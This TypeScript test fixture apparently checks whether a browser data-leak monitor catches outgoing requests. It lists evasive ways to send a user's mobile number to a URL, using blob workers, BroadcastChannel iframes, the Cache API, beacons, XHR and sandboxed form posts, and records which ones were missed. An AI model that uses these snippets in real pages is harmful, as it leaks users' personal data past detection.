import { BODY, BOTH, type Case, inAddress, json } from './case'

/** Ways that are seldom taken, and easily forgotten. */
export const TRICKS: readonly Case[] = [
  {
    name: 'window-blank-fetch',
    channel: 'fetch',
    act: `const w = open('about:blank'); w.fetch(u, { method: 'POST', body: ${json} })`,
    where: BODY,
    firefox: 'missed',
  },
  {
    name: 'cache-add',
    channel: 'fetch',
    act: `const c = await caches.open('c'); c.add(new Request(u + '?m=' + v, { mode: 'no-cors' })).catch(() => {})`,
    ...inAddress,
  },
  {
    name: 'worker-of-blob',
    channel: 'fetch',
    act: `const w = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data: { v, u } }) => fetch(u, { method: "POST", body: ' + ${JSON.stringify(json)} + ' })']))); w.postMessage({ v, u })`,
    where: BODY,
  },
  {
    name: 'frame-broadcast',
    channel: 'fetch',
    act: `const f = document.createElement('iframe'); f.srcdoc = '<script>new BroadcastChannel("b").onmessage = ({ data }) => fetch(data.u, { method: "POST", body: JSON.stringify({ user: { mobile: data.v } }) })<' + '/script>'; document.body.append(f); f.onload = () => new BroadcastChannel('b').postMessage({ v, u })`,
    where: BODY,
  },
  {
    name: 'fetch-aborted',
    channel: 'fetch',
    act: `const c = new AbortController(); fetch(u, { method: 'POST', body: ${json}, signal: c.signal }).catch(() => {}); setTimeout(() => c.abort(), 300)`,
    where: BODY,
    seenBy: BOTH,
  },
  {
    name: 'beacon-file',
    channel: 'beacon',
    act: `navigator.sendBeacon(u, new File([${json}], 'a.txt'))`,
    where: BODY,
    seenBy: BOTH,
  },
  {
    name: 'xhr-view',
    channel: 'xhr',
    act: `const x = new XMLHttpRequest(); x.open('POST', u); x.send(new DataView(new TextEncoder().encode(${json}).buffer))`,
    where: BODY,
    seenBy: BOTH,
  },
  {
    name: 'frame-sandbox-form',
    channel: 'form',
    act: `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method=post action="' + u + '"><input type=hidden name=mobile value="' + v + '"></form><script>document.forms[0].submit()<' + '/script>'; document.body.append(f)`,
    where: /mobile/,
  },
]
